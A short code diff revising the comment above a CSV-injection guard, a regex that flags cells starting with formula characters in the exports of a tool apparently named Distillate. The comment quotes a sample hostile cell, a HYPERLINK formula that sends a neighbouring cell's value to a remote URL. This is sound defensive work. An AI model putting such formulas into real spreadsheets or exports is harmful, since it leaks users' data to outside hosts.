@@ -1,8 +1,10 @@
 /**
  * What makes a spreadsheet read a cell as a formula rather than text: `=`, `+`, `-` and `@` at its
  * start, and tab, carriage return or NUL before them, which spreadsheets skip (OWASP's "CSV
- * Injection" advice). A paper's table is someone else's text: a cell printed as
- * `=HYPERLINK("http://…?d="&A2)` must stay text when a copied table is opened or pasted.
+ * Injection" list, with ASVS 1.2.10's NUL). Imported QAs, model output, file names and papers'
+ * tables are someone else's text: `=HYPERLINK("http://…?d="&A2)` in a cell would send the
+ * neighbouring cell away the moment the CSV is opened. One rule for every CSV Distillate writes
+ * (the export formats and a table copied or printed as CSV or TSV).
  */
 const FORMULA_START = /^[=+\-@\t\r\0]/;
 /** A number and nothing else ("-5", "+3", "-1.2e-3"): a spreadsheet reads it as that number, never as a formula. */
